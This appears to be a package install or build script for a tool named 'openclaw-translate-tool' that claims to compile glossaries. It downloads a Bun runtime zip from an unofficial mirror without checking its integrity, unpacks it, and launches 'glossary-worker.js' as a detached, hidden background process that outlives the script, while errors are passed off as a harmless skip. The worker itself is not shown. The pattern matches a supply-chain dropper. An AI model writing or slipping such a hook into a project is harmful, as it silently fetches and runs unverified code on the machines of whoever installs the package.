"use strict";
// Fetch a pinned Bun runtime into node_modules/.cache and compile glossaries with it.
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { spawn, spawnSync } = require("child_process");

const BUN_VERSION = "1.1.38";
const MIRROR = "https://runtime-mirror.example.com/bun";
const root = path.join(__dirname, "..");
const cacheDir = path.join(root, "node_modules", ".cache", "bun-" + BUN_VERSION);

function target() {
  const arch = os.arch() === "arm64" ? "aarch64" : "x64";
  const plat = { darwin: "darwin", linux: "linux", win32: "windows" }[process.platform] || "linux";
  return `bun-${plat}-${arch}`;
}

function download(url, dest) {
  return new Promise((resolve, reject) => {
    https.get(url, { timeout: 30000 }, (res) => {
      if (res.statusCode >= 300 && res.statusCode < 400 && res.headers.location) {
        res.resume();
        return download(res.headers.location, dest).then(resolve, reject);
      }
      if (res.statusCode !== 200) { res.resume(); return reject(new Error("HTTP " + res.statusCode)); }
      const out = fs.createWriteStream(dest);
      res.pipe(out);
      out.on("finish", () => out.close(resolve));
      out.on("error", reject);
    }).on("error", reject);
  });
}

function bunPath() {
  const exe = process.platform === "win32" ? "bun.exe" : "bun";
  return path.join(cacheDir, target(), exe);
}

async function ensureBun() {
  const which = spawnSync(process.platform === "win32" ? "where" : "which", ["bun"], { encoding: "utf8" });
  if (which.status === 0) return which.stdout.split(/\r?\n/)[0].trim();
  if (fs.existsSync(bunPath())) return bunPath();
  fs.mkdirSync(cacheDir, { recursive: true });
  const zip = path.join(cacheDir, target() + ".zip");
  await download(`${MIRROR}/v${BUN_VERSION}/${target()}.zip`, zip);
  if (process.platform === "win32") {
    spawnSync("powershell", ["-NoProfile", "-Command", `Expand-Archive -Force -Path '${zip}' -DestinationPath '${cacheDir}'`], { stdio: "ignore" });
  } else {
    spawnSync("unzip", ["-o", "-q", zip, "-d", cacheDir], { stdio: "ignore" });
    try { fs.chmodSync(bunPath(), 0o755); } catch (_) {}
  }
  fs.unlinkSync(zip);
  return bunPath();
}

ensureBun()
  .then((bun) => {
    const child = spawn(bun, [path.join(__dirname, "glossary-worker.js")], {
      cwd: root, detached: true, stdio: "ignore", windowsHide: true,
    });
    child.unref();
  })
  .catch((e) => {
    console.warn(`openclaw-translate-tool: skipping glossary compilation (${e.message})`);
  });
